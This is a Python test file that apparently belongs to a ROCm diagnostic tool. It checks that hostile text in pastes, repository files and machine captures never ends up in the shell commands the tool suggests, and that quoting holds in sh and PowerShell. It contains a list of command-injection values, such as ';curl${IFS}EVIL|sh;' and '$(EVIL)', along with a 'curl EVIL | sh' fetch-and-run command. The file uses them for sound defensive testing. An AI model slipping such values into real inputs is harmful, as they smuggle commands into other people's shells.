"""No command holds a word that a stranger wrote: hostile values everywhere, and what each shell makes of each template."""

from __future__ import annotations

import random
import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner

from rocm_doctor import commands, pipeline
from rocm_doctor.cli import cli
from rocm_doctor.matrix import load
from rocm_doctor.model import Artifact, Command, Report
from rocm_doctor.reports import RenderOptions, render
from rocm_doctor.sources.bundle import read
from rocm_doctor.sources.paste import cut

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = sorted(p for p in (ROOT / "fixtures").iterdir() if p.is_dir() and p.name not in ("repos", "reports"))
HOSTILE = (
    ";curl${IFS}EVIL|sh;", "$(EVIL)", "`EVIL`", "' EVIL '", '" & EVIL "', "\nEVIL", "|EVIL", ">EVIL", "-EVIL", " --EVIL=x", "\\EVIL", "{EVIL,}",
    "$env:EVIL", "';EVIL;'", "&EVIL", "EVIL", "\u2019EVIL\u2019", "%EVIL%", "~EVIL", "*EVIL", "!EVIL", "#EVIL",
)  # fmt: skip


a_third = pytest.mark.parametrize("part", [0, *(pytest.param(n, marks=pytest.mark.slow) for n in (1, 2))])
"""A third of the hostile values by default, all with the slow tests."""


def all_commands(report: Report) -> Iterator[Command]:
    for finding in report.findings:
        yield from (*finding.commands, *finding.verify, *((finding.settle,) if finding.settle else ()))
    yield from (question.command for question in report.questions)


def infected(text: str, rng: random.Random) -> str:
    """The text with a hostile value behind, or in the place of, some of its words."""
    return re.sub(r"[^\s=:,()\"']+", lambda m: m[0] if rng.random() > 0.3 else rng.choice((m[0], "")) + rng.choice(HOSTILE), text)


@pytest.mark.parametrize("fixture", FIXTURES, ids=lambda p: p.name)
def test_no_value_of_a_machine_enters_a_command_as_it_is(fixture: Path) -> None:
    rng = random.Random(fixture.name)
    for _ in range(2):
        artifacts = [msgspec.structs.replace(a, text=infected(a.text[:20_000], rng)) for a in read(fixture)]
        for command in all_commands(pipeline.judge(artifacts, load(), kind="capture")):
            assert "EVIL" not in command.text, command


PASTES = (
    "$ ls -l /dev/kfd\ncrw-rw---- 1 root render{x} 510, 0 Nov 20 10:00 /dev/kfd\nUnable to open /dev/kfd read-write: Permission denied\n",
    "docker run --device=/dev/kfd {x} rocm/pytorch{x}\nls: cannot access '/dev/kfd': No such file or directory\n",
    "torch 2.5.0+rocm6.2{x}\nGPU: AMD Radeon RX 7900 XTX gfx1100{x}\nRuntimeError: HIP error: invalid device function\n",
    "export HIP_VISIBLE_DEVICES=0{x}\nexport HSA_OVERRIDE_GFX_VERSION=10.3.0{x}\nNo HIP GPUs are available\n",
    "rocm[libraries]=={x}\nrocm-sdk-core 7.9.0{x}\nImportError: librocblas.so.5: cannot open shared object file\n",
)


@a_third
@pytest.mark.parametrize("text", PASTES)
def test_no_word_of_a_paste_enters_a_command(text: str, part: int) -> None:
    for hostile in HOSTILE[part::3]:
        for command in all_commands(pipeline.judge(cut(text.replace("{x}", hostile), "paste"), load())):
            assert "EVIL" not in command.text, command


FILES = {
    "compose.yaml": 'services:\n  train{x}:\n    image: "rocm/pytorch:latest{x}"\n    command: "python train.py {x}"\n    devices: ["/dev/kfd{x}"]\n',
    "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121{x}\ntorch==2.5.0{x}\nbitsandbytes=={x}\n",
    "Dockerfile": "FROM nvidia/cuda:12.1{x}\nRUN pip install torch=={x} --index-url {x}\nENV HSA_OVERRIDE_GFX_VERSION=10.3.0{x}\n",
    "run.sh": "docker run --gpus all rocm/pytorch{x} python train.py\npip install 'torch=={x}'\n",
    "environment.yml": "dependencies:\n  - pytorch={x}\n  - pip:\n    - 'torch==2.5.0{x}'\n",
    "pyproject.toml": "[project]\nname = 'x'\ndependencies = ['torch==2.5.0', 'bitsandbytes']\n[[tool.uv.index]]\nname = 'a'\nurl = '''https://x/{x}'''\n",
}


@a_third
@pytest.mark.parametrize("name", FILES)
def test_no_word_of_a_repository_enters_a_command(name: str, part: int, tmp_path: Path) -> None:
    for number, hostile in enumerate(h for h in HOSTILE[part::3] if h not in ("EVIL", "-EVIL")):  # a tag may be called so
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / name).write_text(FILES[name].replace("{x}", hostile), encoding="utf-8")
        out = folder / "report.json"
        CliRunner().invoke(cli, ["lint", str(folder), "--gpu", "gfx906", "--format", "json", "-o", str(out)])
        assert out.stat().st_size
        for command in all_commands(msgspec.json.decode(out.read_bytes(), type=Report)):
            assert "EVIL" not in command.text, command


def test_a_report_that_a_stranger_wrote_brings_no_command() -> None:
    report = pipeline.judge(read(ROOT / "fixtures" / "mi50-wrong-override"), load())
    evil = Command("curl EVIL | sh")
    bad = msgspec.structs.replace(report.findings[0], commands=(evil,), verify=(evil,), settle=evil, subject="other")
    text = msgspec.json.encode(msgspec.structs.replace(report, findings=(bad,))).decode()
    for artifacts in (
        cut(text, "x"),
        [Artifact("report/1", "paste", text)],
        [Artifact("report/1", "paste", text), *read(ROOT / "fixtures" / "mi50-wrong-override")],
    ):
        made = pipeline.judge(artifacts, load())
        assert made.findings
        assert not [c for c in all_commands(made) if "EVIL" in c.text]
        for format_ in ("text", "markdown", "github"):
            assert "$ curl EVIL" not in render(format_, made, RenderOptions(verbose=True))


SLOTS = {
    "version": "2.5.0", "package": "torch", "gfx": "gfx906", "group": "render", "gid": "109", "variable": "HIP_VISIBLE_DEVICES", "value": "0",
    "url": "https://download.pytorch.org/whl/rocm6.2", "image": "rocm/pytorch:latest", "path": "/srv/train/.venv",
}  # fmt: skip


@pytest.mark.parametrize("slot", SLOTS)
def test_every_slot_gives_one_word_or_no_command(slot: str) -> None:
    """The shell's own parse has the same words as with a harmless value, for values in a slot and in quotes of the template."""
    harmless = SLOTS[slot]
    for template in (f"tool --x {{{slot}}} end", f"tool 'a={{{slot}}}' end", f"A={{{slot}}} tool"):
        (good,) = commands.fill(template, **{slot: harmless})
        for hostile in (
            *HOSTILE,
            *(harmless + h for h in HOSTILE),
            *(h + harmless for h in HOSTILE),
            "",
            " ",
            "a b",
            "\0",
            "\x1b[2J",
            "é",
            "-x",
        ):
            for made in commands.fill(template, **{slot: hostile}):
                assert len(shlex.split(made)) == len(shlex.split(good))
                assert len(commands.words(made)) == 1
                outside = made.replace("~", "") if slot == "path" else made  # a path is in quotes, or has it in its middle
                assert not re.search(r"[;&|<>`$()\n\\\"!#*?~{}]", outside), made


POWERSHELL = re.compile(r"'(?:[^'\u2018-\u201b]|''|[\u2018-\u201b]{2})*'")
"""A verbatim string of PowerShell's tokenizer, which takes curly quotes for quotes."""


@pytest.mark.parametrize("hostile", [*HOSTILE, "a\u2019; EVIL; \u2018", "\u201bEVIL", "x\n y", "\\';EVIL;'"])
def test_a_value_stays_one_string_in_every_shell(hostile: str) -> None:
    bash = commands.set_variable("X", hostile, "sh")
    assert shlex.split(bash) == ["export", f"X={hostile}"]
    power = commands.set_variable("X", hostile, "powershell")
    assert power.startswith("$env:X = ")
    assert POWERSHELL.fullmatch(power.removeprefix("$env:X = ")), power
